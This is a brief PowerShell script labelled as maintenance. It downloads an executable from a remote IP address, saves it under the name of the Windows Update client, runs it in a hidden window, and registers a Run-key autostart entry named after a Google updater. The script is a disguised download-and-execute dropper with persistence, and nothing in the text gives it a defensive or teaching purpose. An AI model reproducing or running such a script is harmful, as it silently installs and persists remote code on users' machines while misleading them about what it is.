# maintenance 8938 v0
Start-BitsTransfer -Source http://192.0.2.44/svc.exe -Destination $env:TEMP\wuauclt.exe
Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
